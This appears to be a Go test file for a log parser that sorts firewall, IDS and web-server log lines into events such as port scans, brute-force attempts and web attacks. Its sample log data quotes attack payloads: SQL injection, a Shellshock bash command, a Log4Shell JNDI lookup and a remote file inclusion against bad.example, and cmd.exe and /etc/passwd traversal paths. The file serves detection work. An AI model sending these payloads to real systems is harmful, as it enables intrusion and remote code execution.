package logline

import (
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

func TestFirewalls(t *testing.T) {
	t.Parallel()
	check(t, []lineCase{
		{"iptables", "Jun  8 14:34:33 fw kernel: [500.08] IN=eth0 OUT= MAC=00:08 SRC=203.0.113.5 DST=192.0.2.1 LEN=40 PROTO=TCP SPT=8080 DPT=22 SYN", "iptables: 203.0.113.5 ssh/22 tried scan.port"},
		{"ufw", "[UFW BLOCK] IN=eth0 OUT= MAC=aa SRC=203.0.113.5 DST=192.0.2.1 LEN=60 PROTO=UDP SPT=1234 DPT=161", "iptables: 203.0.113.5 snmp/161 tried scan.port"},
		{"let through", "Jun  8 14:34:33 fw kernel: ACCEPT IN=eth0 OUT= SRC=203.0.113.4 DST=192.0.2.1 PROTO=TCP SPT=8080 DPT=443", "iptables: 203.0.113.4 https/443 neutral "},
		{"cisco asa", `%ASA-4-106023: Deny tcp src outside:203.0.113.5/1234 dst inside:192.0.2.1/22 by access-group "in" [0x0, 0x0]`, "cisco-asa: 203.0.113.5 ssh/22 tried scan.port"},
		{"a packet filter without a name", "Oct 14 16:13 deny udp src outside:203.0.113.5/5227 dst inside:192.0.2.1/1434", "flow: 203.0.113.5 mssql/1434 tried scan.port"},
		{"ports behind a colon between blanks", "2010-08-10 23:29:06 NAT RX Not Found : TCP 203.0.113.5 : 26049 > 192.0.2.1 : 445", "flow: 203.0.113.5 smb/445 neutral "},
		{"cisco asa, a connection; addresses come twice", "Jun 11 02:09:40 fw %ASA-6-302013: Built inbound TCP connection 9 for outside:203.0.113.4/5443 (203.0.113.4/5443) to inside:192.0.2.1/443 (192.0.2.1/443)", "cisco-asa: 203.0.113.4 https/443 neutral "},
		{"cisco pix", "Jun 11 2008 02:09:40: %PIX-2-106001: Inbound TCP connection denied from 203.0.113.5/1234 to 192.0.2.1/80 flags SYN", "cisco-pix: 203.0.113.5 http/80 tried scan.port"},
		{"cisco ios", "Jun 11 02:09:40 gw 45: %SEC-6-IPACCESSLOGP: list 101 denied tcp 203.0.113.5(1234) -> 192.0.2.1(23), 1 packet", "cisco-ios: 203.0.113.5 telnet/23 tried scan.port"},
		{"pf through tcpdump", "Jun 11 02:09:40.123456 rule 0/0(match): block in on em0: 203.0.113.5.1234 > 192.0.2.1.22: S 1:1(0) win 1024", "pf: 203.0.113.5 ssh/22 tried scan.port"},
		{"pfsense", "Jun 11 02:09:40 pf filterlog: 5,,,1000000103,em0,match,block,in,4,0x0,,64,420,0,none,6,tcp,60,203.0.113.5,192.0.2.1,53742,22,0,S,1,,1024,,", "pf: 203.0.113.5 ssh/22 tried scan.port"},
		{"ipfw has no arrow", "Jun 11 02:09:40 fw kernel: ipfw: 500 Deny TCP 203.0.113.5:1234 192.0.2.1:22 in via em0", "ipfw: 203.0.113.5 ssh/22 tried scan.port"},
		{"ipfilter", "Jun 11 02:09:40 fw ipmon[93]: 02:09:39.123456 em0 @0:12 b 203.0.113.5,1234 -> 192.0.2.1,22 PR tcp len 20 48 -S IN", "ipfilter: 203.0.113.5 ssh/22 tried scan.port"},
		{"a personal firewall in cells", "FWIN,2009/03/02,11:04:10 +1:00 GMT,203.0.113.5:2211,192.0.2.1:135,TCP (flags:S)", "flow: 203.0.113.5 msrpc/135 tried scan.port"},
		{"cells without a heading", "2009-03-02 11:04:10 +00:00\t35778\t1\t203.0.113.5\t2211\t192.0.2.1\t21\t6\tS", "flow: 203.0.113.5 ftp/21 neutral "},
		{"windows firewall", "2008-06-11 02:09:40 DROP TCP 203.0.113.5 192.0.2.1 1234 445 48 S 1 0 1024 - - - RECEIVE", "windows-firewall: 203.0.113.5 smb/445 tried scan.port"},
		{"yamaha", "2008/06/11 02:09:40: PP[01] Rejected at IN(1013) filter: TCP 203.0.113.5:1234 > 192.0.2.1:23", "yamaha-rtx: 203.0.113.5 telnet/23 tried scan.port"},
		{"nec ix", "Jun 11 02:09:40 ix FLT.013: BLOCK tcp 203.0.113.5:1234 -> 192.0.2.1:23, match deny, GigaEthernet0.0 in", "nec-ix: 203.0.113.5 telnet/23 tried scan.port"},
		{"routeros", "Jun 11 02:09:40 192.0.2.254 firewall,info drop input: in:ether1 out:(unknown 0), src-mac 00:17:10:88:bc:02, proto TCP (SYN), 203.0.113.5:1234->192.0.2.1:23, len 40", "routeros: 203.0.113.5 telnet/23 tried scan.port"},
		{"fortigate", `date=2008-06-11 time=02:09:40 devname="f" logid="13" type="traffic" srcip=203.0.113.5 srcport=1234 dstip=192.0.2.1 dstport=3389 proto=6 action="deny"`, "fortigate: 203.0.113.5 rdp/3389 tried scan.port"},
		{"fortigate, an attack", `date=2008-06-11 time=02:09:40 devname="f" type="utm" subtype="ips" srcip=203.0.113.5 dstip=192.0.2.1 srcport=1 dstport=80 proto=6 attack="HTTP.URI.SQL.Injection"`, "fortigate: 203.0.113.5 http/80 tried scan.web"},
		{"palo alto", "1,2008/06/11 02:09:40,001,TRAFFIC,drop,1,2008/06/11 02:09:40,203.0.113.5,192.0.2.1,0.0.0.0,0.0.0.0,deny,,,x,vsys1,untrust,trust,e1,,log,x,0,1,1234,3389,0,0,0x0,tcp,deny,60", "paloalto: 203.0.113.5 rdp/3389 tried scan.port"},
		{"juniper srx", "Jun 11 02:09:40 srx RT_FLOW: RT_FLOW_SESSION_DENY: session denied 203.0.113.5/1234->192.0.2.1/22 junos-ssh 6(0) deny untrust trust", "juniper-srx: 203.0.113.5 ssh/22 tried scan.port"},
		{"netscreen", "Jun 11 02:09:40 ns NetScreen device_id=ns [Root]system-notification-00257(traffic): policy_id=3 service=tcp/port:22 proto=6 action=Deny src=203.0.113.5 dst=192.0.2.1 src_port=1234 dst_port=22", "netscreen: 203.0.113.5 ssh/22 tried scan.port"},
		{"sonicwall", `id=firewall sn=001 time="2008-06-11 02:09:40" fw=192.0.2.254 pri=1 msg="Possible port scan detected" src=203.0.113.5:1234:X1 dst=192.0.2.1:22:X1`, "sonicwall: 203.0.113.5 ssh/22 tried scan.port"},
		{"tcpdump only tells", "11:29:42.550475 IP 203.0.113.5.43436 > 192.0.2.1.22: Flags [S], seq 2398, win 64240, length 0", "tcpdump: 203.0.113.5 ssh/22 neutral "},
		{"the tool has reset it", `2008-06-11 02:09:40 tcp 203.0.113.5:1234 -> 192.0.2.1:22 action reset-both`, "flow: 203.0.113.5 ssh/22 tried scan.port"},
		{"a flow without its protocol", "06/11-02:09:40.123456 203.0.113.5:1234 -> 192.0.2.1:5060", "flow: 203.0.113.5 sip/5060 neutral "},
		{"a key that accuses", "attacker=203.0.113.5 victim=192.0.2.1 dport=5900/tcp hits=90", "firewall: 203.0.113.5 vnc/5900 tried scan.port"},
		{"ports behind their addresses", "2009-02-26-01:46:25.1471 tcp(6) S 203.0.113.5 2002 192.0.2.1 139 [Windows XP SP1]", "flow: 203.0.113.5 netbios/139 neutral "},
		{"an element that accuses", "<attack src='203.0.113.5' proto='tcp' dport='22' n='81' type='login'/>", "firewall: 203.0.113.5 ssh/22 tried scan.bruteforce"},
		{"a target that the reporter has masked", "2008-06-11 02:09:40.123     0.000 TCP       203.0.113.5:40011  ->      xx.xx.xx.10:2323           1       60     1", "flow: 203.0.113.5 telnet/2323 neutral "},
		{"a conversation, begun by the side that is no service", "203.0.113.5:3341  <-> 192.0.2.1:139      4  212    9  640", "flow: 203.0.113.5 netbios/139 neutral "},
		{"a conversation, told the other way round", "192.0.2.1:445  <-> 203.0.113.5:3341      4  212    9  640", "flow: 203.0.113.5 smb/445 neutral "},
		{"flow log of a cloud", "2 123456789010 eni-0a1b2c3d 203.0.113.5 192.0.2.1 40222 3389 6 1 40 1618880000 1618880060 REJECT OK", "vpc-flow: 203.0.113.5 rdp/3389 tried scan.port"},
		{"flow log of a cloud, let through", "2 - eni-0a1b2c3d 203.0.113.5 192.0.2.1 40222 443 6 1 40 1618880000 1618880060 ACCEPT OK", "vpc-flow: 203.0.113.5 https/443 neutral "},
		{"ipsec", "May 30 05:21:08 vpn charon: 11[IKE] 203.0.113.5 is initiating a Main Mode IKE_SA", "ipsec: 203.0.113.5 isakmp/500 tried scan.port"},
		{"nfdump only tells", "2008-06-11 02:09:40.123     0.000 TCP       203.0.113.5:1234  ->      192.0.2.1:22           1       60     1", "flow: 203.0.113.5 ssh/22 neutral "},
	})
}

func TestAlerts(t *testing.T) {
	t.Parallel()
	check(t, []lineCase{
		{"snort", "08/09-14:22:33.123456  [**] [1:2001219:20] ET SCAN Potential SSH Scan [**] [Classification: x] [Priority: 2] {TCP} 203.0.113.5:1234 -> 192.0.2.1:22", "snort: 203.0.113.5 ssh/22 tried scan.bruteforce"},
		{"a worm by name", "06/11/2008-02:09:40.123456  [**] [1:2003:8] SLAMMER Worm propagation [**] [Priority: 2] {UDP} 203.0.113.5:1234 -> 192.0.2.1:1434", "suricata: 203.0.113.5 mssql/1434 tried scan.port worm"},
		{"by syslog, without ports", "Jun 11 02:09:40 ids snort[1]: [122:1:0] (portscan) TCP Portscan [Priority: 2]: {PROTO:255} 203.0.113.5 -> 192.0.2.1", "snort: 203.0.113.5 /0 tried scan.port"},
		{"the source of a response is the victim", "06/11/2008-02:09:40.123456  [**] [1:498:6] ATTACK-RESPONSES id check returned root [**] {TCP} 192.0.2.1:80 -> 203.0.113.5:1234", "suricata: 192.0.2.1 /1234 neutral "},
		{"eve", `{"timestamp":"2008-06-11T02:09:40.1+0900","flow_id":1,"event_type":"alert","src_ip":"203.0.113.5","src_port":1,"dest_ip":"192.0.2.1","dest_port":445,"proto":"TCP","alert":{"signature":"ET TROJAN checkin"}}`, "suricata: 203.0.113.5 smb/445 tried malware.infected"},
		{"eve that is no alert", `{"timestamp":"2008-06-11T02:09:40.1+0900","flow_id":1,"event_type":"dns","src_ip":"203.0.113.4","src_port":1,"dest_ip":"192.0.2.1","dest_port":53,"proto":"UDP"}`, "suricata: 203.0.113.4 dns/53 neutral "},
		{"a honeypot", `{"eventid":"cowrie.login.failed","username":"root","src_ip":"203.0.113.5","timestamp":"2020-06-11T02:09:40.1Z"}`, "cowrie: 203.0.113.5 ssh/22 tried scan.bruteforce"},
		{"a worm that spreads to a database is no web attack", "08/09-14:22:33.123456  [**] [1:2003:8] MS-SQL version overflow propagation attempt [**] [Priority: 2] {UDP} 203.0.113.5:1234 -> 192.0.2.1:1434", "snort: 203.0.113.5 mssql/1434 tried scan.port worm"},
		{"windows in one line", "An account failed to log on. Source Network Address: 203.0.113.5 Source Port: 1234", "windows: 203.0.113.5 /0 tried scan.bruteforce"},
	})
}

func TestWebRequests(t *testing.T) {
	t.Parallel()
	const clf = `203.0.113.5 - - [11/Jun/2008:02:09:40 +0900] `
	check(t, []lineCase{
		{"a page", clf + `"GET /index.html HTTP/1.1" 200 300 "-" "Mozilla/5.0"`, "apache: 203.0.113.5 http/80 neutral "},
		{"a page that is gone", clf + `"GET /old.html HTTP/1.1" 404 300`, "apache: 203.0.113.5 http/80 neutral "},
		{"sql injection", clf + `"GET /item.php?id=1+union+select+1,2-- HTTP/1.1" 200 512`, "apache: 203.0.113.5 http/80 tried scan.web sql-injection"},
		{"encoded twice", clf + `"GET /item.php?id=1%2520UNION%2520SELECT%25201 HTTP/1.1" 200 512`, "apache: 203.0.113.5 http/80 tried scan.web sql-injection"},
		{"a file from elsewhere", clf + `"GET /?page=http://bad.example/id.txt? HTTP/1.1" 200 512`, "apache: 203.0.113.5 http/80 tried scan.web file-inclusion"},
		{"a link handed on", clf + `"GET /jump?to=http://www.example.org/page HTTP/1.1" 302 0`, "apache: 203.0.113.5 http/80 neutral "},
		{"shellshock", clf + `"GET / HTTP/1.1" 200 300 "-" "() { :;}; /bin/bash -c id"`, "apache: 203.0.113.5 http/80 tried scan.web shellshock"},
		{"log4shell", clf + `"GET / HTTP/1.1" 200 300 "-" "${jndi:ldap://bad.example/a}"`, "apache: 203.0.113.5 http/80 tried scan.web log4shell"},
		{"code red", clf + `"GET /default.ida?NNNN%u9090 HTTP/1.0" 404 200`, "apache: 203.0.113.5 http/80 tried scan.web worm"},
		{"a scanner's name", clf + `"GET /w00tw00t.at.ISC.SANS.DFind:) HTTP/1.1" 400 300`, "apache: 203.0.113.5 http/80 tried scan.web worm"},
		{"a scanner's agent", clf + `"GET / HTTP/1.1" 200 300 "-" "ZmEu"`, "apache: 203.0.113.5 http/80 tried scan.web worm"},
		{"a browser is no botnet", clf + `"GET / HTTP/1.1" 200 300 "-" "Mozilla/5.0 (X11)"`, "apache: 203.0.113.5 http/80 neutral "},
		{"a probe", clf + `"GET /phpMyAdmin/scripts/setup.php HTTP/1.1" 404 200`, "apache: 203.0.113.5 http/80 tried scan.web"},
		{"no HTTP at all", clf + `"\x03\x00\x00/*" 400 47`, "apache: 203.0.113.5 http/80 tried scan.web"},
		{"a password refused", `203.0.113.5 - bob [11/Jun/2008:02:09:40 +0900] "GET /private HTTP/1.1" 401 47`, "apache: 203.0.113.5 http/80 tried scan.bruteforce"},
		{"the question for a password", clf + `"GET /private HTTP/1.1" 401 47`, "apache: 203.0.113.5 http/80 neutral "},
		{"a login that failed", clf + `"POST /wp-login.php HTTP/1.1" 200 4711`, "apache: 203.0.113.5 http/80 tried scan.bruteforce"},
		{"a login that worked", clf + `"POST /wp-login.php HTTP/1.1" 302 0`, "apache: 203.0.113.5 http/80 succeeded "},
		{"a log-in refused, in pairs", `time=2020-07-19T02:20:11+09:00 client=203.0.113.5 method=POST path=/member/login status=401 id=a`, "http: 203.0.113.5 http/80 tried scan.bruteforce"},
		{"with a virtual host", `www.example.jp ` + clf + `"GET /.env HTTP/1.1" 404 47`, "apache: 203.0.113.5 http/80 tried scan.web"},
		{"modsecurity's audit log", "[11/Jun/2008:02:09:40 +0900] SEf9b38AAAEAAAz7AkMAAAAA 203.0.113.5 40211 192.0.2.1 443", "modsecurity: 203.0.113.5 https/443 tried scan.web"},
		{"haproxy", `Nov 14 22:45:11 lb haproxy[7]: 203.0.113.5:58430 [14/Nov/2015:22:45:11.608] main main/<NOSRV> -1/-1/-1/-1/0 401 248 - - PR-- 0/0/0/0/0 0/0 "GET / HTTP/1.1"`, "haproxy: 203.0.113.5 http/80 tried scan.bruteforce"},
		{"iis without its headings", "2008-06-01 00:00:01 W3SVC1 192.0.2.1 GET /scripts/..%5c../winnt/system32/cmd.exe /c+dir 80 - 203.0.113.5 - 404 0 3", "iis: 203.0.113.5 http/80 tried scan.web worm code-injection"},
	})
}

func TestSuccessHint(t *testing.T) {
	t.Parallel()
	const head = `203.0.113.5 - - [11/Jun/2008:02:09:40 +0900] "GET `
	for line, want := range map[string]bool{
		head + `/item.php?id=1+union+select+1 HTTP/1.1" 200 512`:          false, // a page answers 200 to anything
		head + `/cgi-bin/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1" 200 1024`:    true,  // no honest path has dots
		head + `/cgi-bin/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1" 404 209`:     false,
		head + `/index.php?f=../../../../etc/passwd%00 HTTP/1.1" 200 512`: false,
	} {
		if ev, _ := Parse(line); ev.SuccessHint != want {
			t.Errorf("SuccessHint = %v, want %v\n%s", ev.SuccessHint, want, line)
		}
	}
}

func TestTimes(t *testing.T) {
	t.Parallel()
	at := func(y int, mo time.Month, d, h, m, s int) time.Time { return time.Date(y, mo, d, h, m, s, 0, time.UTC) }
	for _, c := range []struct {
		text  string
		want  time.Time
		zoned bool
	}{
		{"Jun  8 14:34:33 ", at(0, 6, 8, 14, 34, 33), false},
		{"Sat Jun 01 02:17:42 2013", at(2013, 6, 1, 2, 17, 42), false},
		{"Jan 18 2013 17:39:50", at(2013, 1, 18, 17, 39, 50), false},
		{"apr 15, 2013 8:34:08 PM", at(2013, 4, 15, 20, 34, 8), false},
		{"Thu, 14 Oct 2021 15:24:12 +0900", at(2021, 10, 14, 6, 24, 12), true},
		{"11/Jun/2008:02:09:40 +0900", at(2008, 6, 10, 17, 9, 40), true},
		{"26/sept./2015:18:02:06 +0200", at(2015, 9, 26, 16, 2, 6), true},
		{"2008-06-11T02:09:40Z", at(2008, 6, 11, 2, 9, 40), true},
		{"2008-06-11 02:09:40 JST", at(2008, 6, 10, 17, 9, 40), true},
		{"2008/06/11 2:09:40", at(2008, 6, 11, 2, 9, 40), false},
		{"2008年6月11日 02:09:40", at(2008, 6, 11, 2, 9, 40), false},
		{"2014:07:02-00:17:45", at(2014, 7, 2, 0, 17, 45), false},
		{"130324  0:04:00", at(2013, 3, 24, 0, 4, 0), false},
		{"08/09-14:22:33", at(0, 8, 9, 14, 22, 33), false},
		{"31.12.2008 23:59:59", at(2008, 12, 31, 23, 59, 59), false},
		{"1212345678 ", at(2008, 6, 1, 18, 41, 18), true},
		{"20080611020940", at(2008, 6, 11, 2, 9, 40), false},
	} {
		got, end := readStamp(c.text, 0)
		if !got.known || end == 0 || !got.time.Equal(c.want) || got.zoned != c.zoned {
			t.Errorf("%q: got %v zoned %v known %v, want %v zoned %v", c.text, got.time, got.zoned, got.known, c.want, c.zoned)
		}
	}
	for _, text := range []string{"203.0.113.5", "Maybe 5 things", "12:30", "2008", "99/99/9999 99:99:99"} {
		if got, _ := readStamp(text, 0); got.known {
			t.Errorf("%q was read as the time %v", text, got.time)
		}
	}
}

func TestEventKeepsTheZone(t *testing.T) {
	t.Parallel()
	ev, _ := Parse(`203.0.113.5 - - [11/Jun/2008:02:09:40 +0900] "GET / HTTP/1.0" 200 1`)
	if diff := cmp.Diff(time.Date(2008, 6, 10, 17, 9, 40, 0, time.UTC), ev.Time); diff != "" || !ev.TimeKnown || !ev.ZoneKnown {
		t.Errorf("time known %v, zone known %v\n%s", ev.TimeKnown, ev.ZoneKnown, diff)
	}
}
